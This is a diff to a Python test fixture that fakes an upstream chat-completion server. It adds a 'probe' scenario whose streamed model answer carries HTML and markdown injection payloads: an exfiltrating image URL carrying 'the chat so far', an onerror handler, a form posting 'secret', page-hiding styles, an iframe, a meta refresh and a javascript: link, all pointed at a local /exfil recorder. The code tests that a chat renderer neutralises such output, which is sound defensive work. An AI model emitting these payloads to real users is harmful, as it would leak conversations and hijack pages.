@@ -19,6 +19,10 @@ behave differently: ``http://127.0.0.1:PORT/<scenario>/v1``. Scenarios (``-N`` p
 - ``cjk``: a Chinese answer without usage (for the token estimate)
 - ``delay-MS``: the plain answer after MS milliseconds (benchmarks)
 - ``html`` / ``code``: an answer with HTML and script tags / with a fenced code block
+- ``probe-N``: thinking, then an answer carrying the probe's payloads (:func:`probe_answer`: images,
+  a form, styles, an iframe, event attributes, a ``javascript:`` link), in pieces of N characters (7) so
+  that renders see tags half written; each payload points at this server's ``/exfil/…``, which records
+  every request it gets in :attr:`UpstreamServer.exfil_hits`
 
 Everything received is kept in :attr:`UpstreamServer.received`; stream ends (normal or cancelled) in
 :attr:`UpstreamServer.stream_ends`.
@@ -57,6 +61,30 @@ CODE_ANSWER = [
 ]
 UPSTREAM_ERROR_BODY = "upstream-internal-detail: database password is hunter2"
 OPEN_STREAM_MAX_WORDS = 100_000
+PROBE_END = "Probe end."
+
+
+def probe_thinking(base: str) -> str:
+    return f'Thinking with <img src="{base}/exfil/thinking-image"> in it.'
+
+
+def probe_answer(base: str) -> str:
+    """The probe's payloads (issue 15), each of which loads, submits, hides or runs something when the
+    answer is rendered as it is; ``base`` is this server, whose ``/exfil/…`` records what reaches it."""
+    return (
+        "Probe start.\n\n"
+        f"![ ]({base}/exfil/markdown-image?d=the+chat+so+far)\n\n"
+        f'<img src="{base}/exfil/html-image" onerror="window.__probe = \'onerror\'">\n\n'
+        f'<form action="{base}/exfil/form" method="post"><input name="q" value="secret">'
+        '<button type="submit">Send it</button></form>\n\n'
+        "<style>body, #app { display: none !important; }</style>\n\n"
+        '<div class="fixed inset-0 z-50 bg-white" style="position:fixed;inset:0;z-index:9999">cover</div>\n\n'
+        f'<iframe src="{base}/exfil/iframe"></iframe>\n\n'
+        f'<link rel="stylesheet" href="{base}/exfil/stylesheet">'
+        f'<meta http-equiv="refresh" content="0;url={base}/exfil/meta"><base href="{base}/exfil/base/">\n\n'
+        f"[javascript link](javascript:window.__probe='javascript') [web link]({base}/exfil/link)\n\n"
+        f"{PROBE_END}"
+    )
 
 
 class MidStreamCut(Exception):
@@ -137,6 +165,7 @@ class UpstreamServer:
         self.port = free_port()
         self.received: list[Received] = []
         self.stream_ends: list[StreamEnd] = []
+        self.exfil_hits: list[str] = []  # ``/exfil/…`` requests: what a page fetched of a probe's payloads
         self._server: uvicorn.Server | None = None
         self._open_streams_end = threading.Event()  # set to end the ``open`` streams running now
         self._thread: threading.Thread | None = None
@@ -144,6 +173,7 @@ class UpstreamServer:
             routes=[
                 Route("/{scenario}/v1/chat/completions", self._completions, methods=["POST"]),
                 Route("/{scenario}/v1/models", self._models, methods=["GET"]),
+                Route("/exfil/{what:path}", self._exfil, methods=["GET", "POST"]),
             ]
         )
 
@@ -164,6 +194,7 @@ class UpstreamServer:
     def clear(self) -> None:
         self.received.clear()
         self.stream_ends.clear()
+        self.exfil_hits.clear()
 
     # ---- lifecycle -------------------------------------------------------------------------------
     def start(self) -> UpstreamServer:
@@ -191,6 +222,10 @@ class UpstreamServer:
             self._thread.join(timeout=5)
 
     # ---- endpoints -------------------------------------------------------------------------------
+    async def _exfil(self, request: Request) -> Response:
+        self.exfil_hits.append(f"{request.method} {request.url.path}?{request.url.query}")
+        return Response(b"GIF89a", media_type="image/gif")
+
     async def _models(self, request: Request) -> Response:
         return JSONResponse({"object": "list", "data": [{"id": "test-model", "object": "model"}]})
 
@@ -213,8 +248,9 @@ class UpstreamServer:
         if not body.get("stream"):
             return JSONResponse(self._full_answer(name, model, body))
         include_usage = bool((body.get("stream_options") or {}).get("include_usage"))
+        base = str(request.base_url).rstrip("/")
         return StreamingResponse(
-            self._stream(name, params, model, include_usage), media_type="text/event-stream"
+            self._stream(name, params, model, include_usage, base), media_type="text/event-stream"
         )
 
     def _full_answer(self, name: str, model: str, body: dict[str, Any]) -> dict[str, Any]:
@@ -238,7 +274,7 @@ class UpstreamServer:
             answer["usage"] = {"prompt_tokens": 11, "completion_tokens": 6, "total_tokens": 17}
         return answer
 
-    async def _stream(self, name: str, params: list[int], model: str, include_usage: bool):
+    async def _stream(self, name: str, params: list[int], model: str, include_usage: bool, base: str = ""):
         cancelled = False
         try:
             if name == "latefirst":  # the first event after MS milliseconds, then a stall
@@ -258,6 +294,15 @@ class UpstreamServer:
                 yield _chunk(model, {}, finish="stop")
                 if include_usage:
                     yield _usage_chunk(model, 11, 9)
+                yield b"data: [DONE]\n\n"
+                return
+            if name == "probe":
+                for word in probe_thinking(base).split(" "):
+                    yield _chunk(model, {"reasoning_content": word + " "})
+                answer, size = probe_answer(base), (params[0] if params else 7)
+                for start in range(0, len(answer), size):
+                    yield _chunk(model, {"content": answer[start : start + size]})
+                yield _chunk(model, {}, finish="stop")
                 yield b"data: [DONE]\n\n"
                 return
             if name == "stall":
